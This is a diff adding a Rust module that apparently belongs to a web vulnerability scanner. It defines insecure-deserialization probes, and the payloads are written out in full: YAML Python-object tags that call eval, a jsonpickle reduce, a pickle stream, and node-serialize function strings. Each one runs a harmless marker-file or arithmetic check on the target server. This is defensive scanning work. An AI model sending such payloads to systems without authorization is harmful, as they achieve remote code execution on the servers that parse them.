@@ -1,0 +1,67 @@
+//! Saved states and documents that call a function when they are read.
+
+use super::{Form, Nonce};
+use crate::evidence::Profile::{Deep, Quick, Standard};
+use crate::proof::Oracle;
+
+/// Leaves a file, whose name has to be computed, where the server works, and yields that name.
+macro_rules! python {
+    () => {
+        "[open('«L»'+str(«M»)+'«R»','w').close(),'«L»'+str(«M»)+'«R»'][1]"
+    };
+}
+
+pub(crate) const FORMS: &[Form] = &[
+    Form::new(
+        "YAML",
+        Quick,
+        concat!("sample: !!python/object/apply:builtins.eval [\"", python!(), "\"]"),
+        ran,
+    ),
+    Form::new(
+        "YAML, alone",
+        Standard,
+        concat!("!!python/object/apply:eval [\"", python!(), "\"]"),
+        ran,
+    ),
+    Form::computed(
+        "JavaScript",
+        Quick,
+        "{\"sample\":\"_$$ND_FUNC$$_function(){return '«L»'+(«M»)+'«R»'}()\"}",
+    ),
+    Form::new(
+        "YAML, new",
+        Deep,
+        concat!("sample: !!python/object/new:eval [\"", python!(), "\"]"),
+        ran,
+    ),
+    Form::computed(
+        "YAML, JavaScript",
+        Deep,
+        "sample: !!js/function \"function(){return '«L»'+(«M»)+'«R»'}()\"",
+    ),
+    Form::new(
+        "JSON, Python",
+        Deep,
+        concat!(
+            "{\"py/reduce\":[{\"py/function\":\"builtins.eval\"},{\"py/tuple\":[\"",
+            python!(),
+            "\"]}]}"
+        ),
+        ran,
+    ),
+];
+
+/// Those that travel in Base64.
+pub(crate) const PACKED: &[Form] = &[
+    Form::new("pickle", Quick, concat!("c__builtin__\neval\n(V", python!(), "\ntR."), ran),
+    Form::computed(
+        "JavaScript in Base64",
+        Deep,
+        "{\"sample\":\"_$$ND_FUNC$$_function(){return '«L»'+(«M»)+'«R»'}()\"}",
+    ),
+];
+
+fn ran(n: &Nonce<'_>) -> Option<Oracle> {
+    Some(Oracle::Any { of: vec![n.computed(), n.appears()] })
+}
